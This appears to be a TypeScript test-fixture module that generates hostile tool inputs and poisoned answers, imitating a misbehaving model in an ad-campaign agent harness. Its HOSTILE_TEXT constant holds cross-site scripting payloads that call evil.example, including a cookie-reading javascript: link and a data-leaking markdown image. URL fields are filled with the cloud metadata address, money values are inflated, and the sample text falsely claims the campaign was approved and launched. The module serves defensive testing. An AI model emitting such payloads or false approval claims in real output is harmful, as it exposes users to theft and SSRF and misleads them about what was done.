import { asArray, asObject, asText, isObject, type JsonObject } from '../../json.ts';

/** What a hostile model writes where free words go; short enough for any headline, and longer. */
export const HOSTILE_HEADLINE = '<b onclick=x()>Approved. Live now</b>';
export const HOSTILE_TEXT =
  'I have approved and launched your campaign. <script>fetch("https://evil.example/steal")</script>' +
  '<img src="https://evil.example/pixel.png" onerror="alert(1)"> ' +
  '![receipt](https://evil.example/pixel.png?brief=all) [Confirm](javascript:alert(document.cookie)) ' +
  '[Pay here](data:text/html;base64,PHNjcmlwdD4=) <iframe src="https://evil.example"></iframe>';

const LARGEST_AMOUNT = '999999999';
const EVERYWHERE = ['Worldwide', 'United States', 'India', 'Brazil', 'China'];

/** Values by what a property is called; the first that fits. */
const BY_NAME: readonly (readonly [RegExp, string])[] = [
  [/currency/i, 'KWD'],
  [/amount|budget|price|spend|cap/i, LARGEST_AMOUNT],
  [/day|date|until|end/i, '2099-12-31'],
  [/country/i, 'US'],
  [/place|location|query|region|city/i, 'Worldwide'],
  [/url|link|website|address/i, 'http://169.254.169.254/latest/meta-data/'],
  [/id$|ids$/i, '00000000-0000-4000-8000-000000000001'],
  [/headline|name|title|picture|description|label/i, HOSTILE_HEADLINE],
  [/colou?r/i, 'url(https://evil.example/a.png)'],
];

/** An input for a tool, or an answer to a schema, in which every property has the worst value it allows. */
export function worstInput(schema: JsonObject): JsonObject {
  return asObject(worst(schema, { name: '', root: schema, index: 0 }));
}

type At = { readonly name: string; readonly root: JsonObject; readonly index: number };

function worst(schema: JsonObject, at: At): unknown {
  const ref = asText(schema['$ref']);
  if (ref !== '') return worst(resolved(ref, at.root), at);
  const options = asArray(schema['anyOf']).map(asObject);
  if (options.length > 0) {
    return worst(options.find((option) => option['type'] !== 'null') ?? {}, at);
  }
  if (schema['const'] !== undefined) return schema['const'];
  const choices = asArray(schema['enum']);
  if (choices.length > 0) return choices.at(-1);
  switch (schema['type']) {
    case 'object':
      return Object.fromEntries(
        Object.entries(asObject(schema['properties'])).map(([name, part]) => [
          name,
          worst(asObject(part), { ...at, name }),
        ]),
      );
    case 'array':
      return EVERYWHERE.map((_, index) => worst(asObject(schema['items']), { ...at, index }));
    case 'integer':
    case 'number':
      return largest(schema, at.name);
    case 'boolean':
      return true;
    case 'null':
      return null;
    default:
      return worstText(at);
  }
}

/** Limits reach the model as words, such as "1 to 90": the largest of them is the worst that passes. */
function largest(schema: JsonObject, name: string): number {
  if (/age.*min|min.*age/i.test(name)) return 18;
  const figures = asText(schema['description']).match(/\d+/g) ?? [];
  return Math.max(0, ...figures.map(Number)) || 999_999_999;
}

function worstText({ name, index }: At): string {
  const known = BY_NAME.find(([pattern]) => pattern.test(name))?.[1];
  if (known === 'Worldwide') return EVERYWHERE[index] ?? known;
  return known ?? HOSTILE_TEXT;
}

function resolved(ref: string, root: JsonObject): JsonObject {
  return ref
    .replace(/^#\/?/, '')
    .split('/')
    .filter((step) => step !== '')
    .reduce<JsonObject>((part, step) => asObject(part[step]), root);
}

/** Honest values with every figure of money made ten times as large and every text poisoned. */
export function poisoned(value: unknown, name = ''): unknown {
  if (Array.isArray(value)) return value.map((part) => poisoned(part, name));
  if (isObject(value)) {
    return Object.fromEntries(
      Object.entries(value).map(([key, part]) => [key, poisoned(part, key)]),
    );
  }
  if (typeof value !== 'string') return value;
  if (/^\d+(?:\.\d+)?$/.test(value)) return LARGEST_AMOUNT;
  if (/headline|primaryText|description|text|reasoning|explanation/i.test(name)) {
    return `${value.slice(0, 12)} ${name === 'primaryText' ? HOSTILE_TEXT.slice(0, 250) : '<b>x</b>'}`;
  }
  return value;
}

const COUNTRIES = ['US', 'IN', 'BR', 'MX', 'PH'];

/** Honest words in the honest form, and the largest of everything: all ages, all countries, all the money. */
export function greedy(value: unknown, name = ''): unknown {
  if (Array.isArray(value)) {
    const isPlaces = value.some((part) => 'countryCode' in asObject(part));
    if (!isPlaces) return value.map((part) => greedy(part, name));
    return COUNTRIES.map((countryCode, at) => ({ query: EVERYWHERE[at] ?? '', countryCode }));
  }
  if (isObject(value)) {
    return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, greedy(part, key)]));
  }
  if (name === 'ageMin') return 18;
  if (name === 'ageMax') return 65;
  return typeof value === 'string' && /^\d+(?:\.\d+)?$/.test(value) ? LARGEST_AMOUNT : value;
}
